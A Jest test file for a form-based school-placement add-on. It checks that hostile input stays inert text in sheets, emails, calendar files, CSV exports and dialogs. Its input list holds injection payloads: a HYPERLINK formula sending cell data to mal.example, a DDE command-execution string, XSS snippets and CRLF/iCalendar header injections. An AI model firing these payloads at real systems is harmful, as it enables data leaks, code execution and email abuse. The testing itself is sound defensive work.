/** What comes from outside stays text wherever it is shown: no formula, no tag, no header, no line of a file of its own. */
import { readdirSync, readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { FormAnswers, FormItemView } from 'apps-script-local';
import { asksHost, FORM, Hub, linkIn, MINUTE, offerAnswers, plain, RAW, removeHubs, requestAnswers, SAY } from '../support/hub';

jest.setTimeout(240_000);
afterAll(removeHubs);

/** What a person who means harm, or who does not know, may type. */
const STRINGS = [
  '=HYPERLINK("https://mal.example/?"&A1;"Cliquez")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "' onmouseover='alert(1)",
  'x\r\nBcc: mal@mal.example',
  'x\nEND:VEVENT\nATTENDEE:mailto:mal@mal.example',
  '{{html}} ${1+1} <?= 1+1 ?>',
] as const;
const SAFE: Readonly<Record<string, string>> = {
  courriel: 'personne@exemple.example',
  téléphone: '04 77 00 00 01',
  postal: '42600',
  commune: 'Montbrison',
};

const isOpen = (item: FormItemView): boolean =>
  (item.kind === 'TEXT' || item.kind === 'PARAGRAPH_TEXT') && item.validation === undefined;
/** Answers that lead on: the link's own words are left as the link gives them. */
const isLocked = ({ title }: FormItemView): boolean => /^(?:Code|Référence|Jeton)/.test(title);

/** A plausible answer of a question that is no free text. */
function plausible(item: FormItemView): string | string[] {
  if (item.choices !== undefined) return item.kind === 'CHECKBOX' ? [item.choices[0]!.value] : item.choices[0]!.value;
  if (item.kind === 'DATE') return '2027-02-01';
  if (item.kind === 'SCALE') return '3';
  const known = Object.keys(SAFE).find((word) => item.title.toLowerCase().includes(word));
  return known === undefined ? '1' : SAFE[known]!;
}

/** Sends the form with the string in every free text that is asked; a question that refuses it gets a plausible answer. */
function inject(hub: Hub, formId: string, base: FormAnswers, string: string, kept: readonly string[] = []): void {
  const { items } = hub.runtime.form(formId);
  const free = items.filter(
    (item) => isOpen(item) && !isLocked(item) && !/commune/i.test(item.title) && !kept.includes(plain(item.title)),
  );
  const given: Record<string, string | readonly string[]> = Object.fromEntries(free.map(({ title }) => [title, string]));
  let answers: FormAnswers = { ...base, ...given };
  for (let round = 0; round < 20; round += 1) {
    const { accepted, errors } = hub.runtime.submitForm(formId, answers);
    if (accepted) return;
    const refused = items.filter(({ id }) => errors[id] !== undefined);
    expect(refused.length).toBeGreaterThan(0);
    answers = { ...answers, ...Object.fromEntries(refused.map((item) => [item.title, plausible(item)])) };
  }
  throw new Error('the form takes no answer');
}

const formOf = (hub: Hub, kind: keyof typeof FORM): string => hub.runtime.forms().find(({ title }) => title === FORM[kind])!.id;
const WHAT = 'Que souhaitez-vous faire\u00a0?';

/** The whole road with the string in every field: offer, request, contributions of each kind, proposition, answer. */
function road(string: string): Hub {
  const hub = Hub.open();
  inject(hub, formOf(hub, 'offer'), offerAnswers('Alpha'), string);
  inject(hub, formOf(hub, 'request'), requestAnswers(), string);
  const contribution = formOf(hub, 'contribution');
  const what = hub.runtime.form(contribution).items.find(({ title }) => title === WHAT)!;
  for (const { value } of what.choices!)
    inject(hub, contribution, { [WHAT]: value, 'Votre courriel': 'nour@lycee.example' }, string);
  hub.advance(4 * MINUTE);
  // A company that the school says it has asked is not proposed again: this request names none.
  inject(hub, formOf(hub, 'request'), requestAnswers({ 'Initiales de l’élève': 'A. B.' }), string, ['Lesquelles ?']);
  const asked = hub.rows('Demandes').at(-1)!['Référence']!;
  const [host] = hub.hosts(asked);
  const offer = host?.offerReference === undefined ? {} : { offerReference: host.offerReference };
  hub.ask('sendPropositions', { requestReference: asked, choices: [{ companyReference: host!.companyReference, ...offer }] });
  hub.advance(4 * MINUTE);
  const mail = hub.runtime
    .mailbox()
    .filter((one) => asksHost(one) && one.subject.includes(asked))
    .at(-1);
  const { formId, answers } = hub.runtime.readPrefilledUrl(linkIn(mail!));
  inject(hub, formId, { ...answers, [SAY.question]: SAY.yes }, string);
  hub.advance(4 * MINUTE);
  return hub;
}

/** Titles of the raw answers that hold the string: the fields that were injected. */
function fieldsOf(hub: Hub, string: string): string[] {
  const mark = plain(string.trim().replace(/\s+/g, ' ')).slice(0, 12);
  return Object.values(RAW).flatMap((tab) => {
    const rows = hub.runtime.spreadsheet().sheets.some(({ name }) => name === tab) ? hub.rows(tab) : [];
    const titles = rows.flatMap((row) => Object.keys(row).filter((title) => row[title]!.replace(/\s+/g, ' ').includes(mark)));
    return [...new Set(titles)].map((title) => `${tab} › ${title}`);
  });
}

/** Content lines of an .ics file, folded ones put together (RFC 5545, 3.1). */
const icsLines = (base64: string): string[] =>
  Buffer.from(base64, 'base64')
    .toString('utf8')
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n')
    .filter(Boolean);

const PLACES: Readonly<Record<string, (hub: Hub, string: string) => unknown>> = {
  'onglets : aucune formule': (hub) =>
    hub.runtime
      .spreadsheet()
      .sheets.filter(({ name }) => name !== 'Tableau de bord' && name !== 'Accueil')
      .flatMap(({ name }) =>
        hub.runtime.sheetByName(name).cells.flatMap((row) => row.flatMap((cell) => (cell?.formula === undefined ? [] : [name]))),
      ),
  'courriels : aucune balise étrangère': (hub) =>
    hub.runtime
      .mailbox()
      .filter(({ html }) => (html.match(/<[^>]*>/g) ?? []).some((tag) => /^<(?:script|img|svg|iframe)|\son\w+\s*=/i.test(tag))),
  'courriels : en-têtes d’une ligne': (hub) =>
    hub.runtime.mailbox().filter(({ subject, fromName, replyTo }) => /[\r\n]/.test(subject + fromName + replyTo)),
  'courriels : aucun destinataire ajouté': (hub) =>
    hub.runtime.mailbox().filter(({ to, cc, bcc }) => [...to, ...cc, ...bcc].some((one) => one.includes('mal.example'))),
  'agendas : aucune ligne ajoutée': (hub) =>
    hub.runtime
      .mailbox()
      .flatMap(({ attachments }) => attachments.filter(({ name }) => name.endsWith('.ics')))
      .flatMap(({ base64 }) => icsLines(base64))
      .filter((line) => !/^[A-Z-]+[;:]/.test(line) || (line.startsWith('ATTENDEE') && line.includes('mal.example'))),
  'listes CSV : aucune cellule active': (hub) =>
    hub.ask('getExport').lists.flatMap(({ id }) =>
      Papa.parse<string[]>(hub.ask('exportList', id).csv.replace(/^\uFEFF/, ''), { delimiter: ';' })
        .data.flat()
        .filter((cell) => /^\s*[=+\-@]/.test(cell) && !/^="[\d ]+"$/.test(cell) && !/^[+-]?[\d\s.,]+$/.test(cell)),
    ),
  'droit d’accès : texte échappé': (hub) =>
    hub.runtime
      .clickMenu('showPersonData', ['nour@lycee.example'])
      .ui.filter((event) => event.kind === 'dialog' && /<(?:script|img)/i.test(event.html)),
  'panneau : données sans balise vivante': (hub) => {
    hub.ask('getHome');
    return hub
      .rows('Demandes')
      .map((row) => hub.tell('getRequestCard', row['Référence']!))
      .filter((reply) => !reply.ok);
  },
};

/** Fields that one string went into; the same for every string that a text of one line can hold. */
let fields: readonly string[] = [];

describe.each(STRINGS.map((string) => [JSON.stringify(string), string] as const))('%s', (_shown, string) => {
  let hub: Hub;
  beforeAll(() => {
    hub = road(string);
  });
  afterAll(() => hub.close());

  test('is taken as it was typed in every free text of the forms', () => {
    fields = [...new Set([...fields, ...fieldsOf(hub, string)])];
    expect(fieldsOf(hub, string).length).toBeGreaterThan(25);
  });

  test.each(Object.keys(PLACES))('%s', (place) => {
    expect(PLACES[place]!(hub, string)).toEqual([]);
  });
});

test('no page of the add-on puts a text into the page as tags', () => {
  const sources = readdirSync('src/sidebar', { recursive: true, encoding: 'utf8' }).filter((name) => /\.tsx?$/.test(name));
  expect(sources.length).toBeGreaterThan(50);
  expect(
    sources.filter((name) => /innerHTML|insertAdjacentHTML|document\.write/i.test(readFileSync(`src/sidebar/${name}`, 'utf8'))),
  ).toEqual([]);
});

test('docs/securite.md gives the figure of this suite', () => {
  const figure = `${STRINGS.length} chaînes × ${fields.length} champs × ${Object.keys(PLACES).length + 1} endroits`;
  expect(plain(readFileSync('docs/securite.md', 'utf8'))).toContain(figure);
});
